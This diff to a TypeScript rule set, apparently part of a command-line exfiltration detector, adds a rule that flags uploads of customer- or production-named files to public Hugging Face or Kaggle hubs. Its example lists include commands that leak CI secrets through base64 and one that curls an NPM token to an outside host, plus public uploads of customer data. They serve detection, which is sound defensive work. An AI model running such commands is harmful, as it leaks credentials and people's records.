@@ -910,6 +910,9 @@ function copiesBetweenBuckets(c: SimpleCommand): boolean {
   return whole && buckets.size > 1 && owners.size > 1;
 }
 
+/** A file or folder named for people's records or for production data and its copies. */
+const PEOPLE_OR_PRODUCTION_DATA = /customer|user|client|patient|member|employee|account|pii|crm|prod|export|dump|backup|\.sql$/i;
+
 export const RULES: readonly Rule[] = [
   {
     id: 'PX-EXFIL-001', name: 'sends-secret-off-host', score: 90, tactic: 'exfiltration', technique: 'T1048', strong: true,
@@ -1228,6 +1231,26 @@ export const RULES: readonly Rule[] = [
     examples: {
       fire: ['echo "${{ secrets.AWS_SECRET_ACCESS_KEY }}" | base64 | base64', 'echo "${{ toJSON(secrets) }}" | base64 -w0', 'curl -s -d "t=${{ secrets.NPM_TOKEN }}" https://ci-metrics.dev-tools.site/collect'],
       quiet: ['echo "\${{ secrets.SNOWFLAKE_PRIVATE_KEY_B64 }}" | base64 --decode > "$SNOWFLAKE_PRIVATE_KEY_PATH"', `echo 'echo "\${{ secrets.TOKEN }}" | base64' >> tests/gha_leak_cases.txt`, 'echo "${{ github.sha }}" | cut -c1-7', 'npm publish --provenance', 'echo "deploying ${{ github.ref_name }}"', 'grep -rn "secrets.NPM_TOKEN" .github/workflows/'],
+    },
+  },
+  {
+    id: 'PX-EXFIL-022', name: 'publishes-data-to-public-hub', score: 70, tactic: 'exfiltration', technique: 'T1567',
+    message: "Publishes files named as people's or production data to a public model or dataset hub (Hugging Face, Kaggle)",
+    why: "A Hugging Face repository is created public unless `--private` is given, and a Kaggle dataset made public is downloadable by anyone: customer tables or production exports put there have left the organization for good.",
+    alternative: 'Publish a synthetic or anonymized sample, to a private repository of the organization.',
+    commands: ['huggingface-cli', 'hf', 'kaggle'],
+    test: (c) => {
+      const kaggle = c.name === 'kaggle' && (c.argv[1] === 'datasets' || c.argv[1] === 'd') && /^(?:create|version)$/.test(c.argv[2] ?? '') && hasArg(c, '--public', '-u');
+      const hub = c.name !== 'kaggle' && c.argv[1] === 'upload' && !hasArg(c, '--private');
+      if (!kaggle && !hub) return undefined;
+      // `hf upload REPO LOCAL [PATH_IN_REPO]`: the local path is the second word that is neither an option nor its value
+      const local = c.name === 'kaggle' ? [optionValue(c.argv, ['-p', '--path']) ?? '.'] : c.argv.slice(2).filter((w, k, a) => !w.startsWith('-') && !(k > 0 && /^--(?!private$)[\w-]+$/.test(a[k - 1]!))).slice(1, 2);
+      const data = local.find((p) => PEOPLE_OR_PRODUCTION_DATA.test(p));
+      return data === undefined ? undefined : `${c.argv.slice(0, 3).join(' ')} … ${data}`;
+    },
+    examples: {
+      fire: ['huggingface-cli upload jdoe/customers-2026 ./exports/customers.parquet --repo-type dataset', 'hf upload jdoe/eval ./data/prod_users.csv --repo-type=dataset', 'kaggle datasets create -p ./exports/customer_data --public'],
+      quiet: ['huggingface-cli upload acme/bert-finetuned ./outputs/model', 'huggingface-cli upload acme/customers-eval ./exports/customers.parquet --repo-type dataset --private', 'kaggle datasets create -p ./exports/customer_data', 'hf upload acme/sentiment-demo ./data/imdb_sample.csv --repo-type dataset'],
     },
   },
   {
